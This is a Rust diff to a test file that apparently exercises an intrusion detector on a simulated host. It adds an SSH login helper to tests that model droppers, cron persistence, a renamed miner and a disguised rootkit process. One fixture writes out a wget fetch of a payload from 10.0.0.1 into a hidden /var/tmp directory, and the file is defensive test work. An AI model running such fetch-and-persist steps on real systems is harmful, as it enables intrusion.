@@ -40,10 +40,16 @@ fn dropper(host: &mut Host, script: ProcessKey, path: &str) -> ProcessKey {
     dropped
 }
 
+/// Lets a person log in over SSH. Returns the login shell.
+fn log_in(host: &mut Host, init: ProcessKey) -> ProcessKey {
+    let sshd = host.spawn(init, "/usr/sbin/sshd", &["sshd"]);
+    host.spawn(sshd, "/usr/bin/bash", &["-bash"])
+}
+
 #[test]
 fn a_dropper_that_stays() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
     dropper(&mut host, script, "/tmp/x");
     host.create(script, "/etc/cron.d/x", 0o644);
@@ -73,7 +79,7 @@ fn a_dropper_that_stays() {
 #[test]
 fn persistence_before_the_connection() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
     let wget = host.spawn(script, "/usr/bin/wget", &["wget", "-O", "/var/tmp/.x/kw", "http://10.0.0.1/kw"]);
     host.create(wget, "/var/tmp/.x/kw", 0o644);
@@ -115,7 +121,7 @@ fn an_exploited_service() {
 fn cron_runs_later_what_was_dropped() {
     let (mut host, init) = host();
     let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
     // No temporary directory is used and nothing runs at once: only the cron entry is suspicious so far.
     host.create(script, "/usr/local/lib/update", 0o755);
@@ -146,7 +152,7 @@ fn cron_runs_later_what_was_dropped() {
 fn a_script_dropped_by_one_and_run_by_cron() {
     let (mut host, init) = host();
     let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
     dropper(&mut host, script, "/tmp/x");
     host.create(script, "/tmp/again.sh", 0o755);
@@ -179,7 +185,7 @@ fn a_script_dropped_by_one_and_run_by_cron() {
 #[test]
 fn a_renamed_miner() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let miner = host.spawn(
         login,
         "/usr/local/bin/systemd-helper",
@@ -230,7 +236,7 @@ fn a_miner_that_ran_before() {
 #[test]
 fn a_rootkit_without_mining_is_tampering() {
     let (mut host, init) = host();
-    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
+    let login = log_in(&mut host, init);
     let script = host.spawn_script(login, "/usr/bin/dash", "/root/x.sh");
     host.create(script, "/dev/shm/x", 0o755);
     let dropped = host.spawn(script, "/dev/shm/x", &["[kworker/1:0]"]);
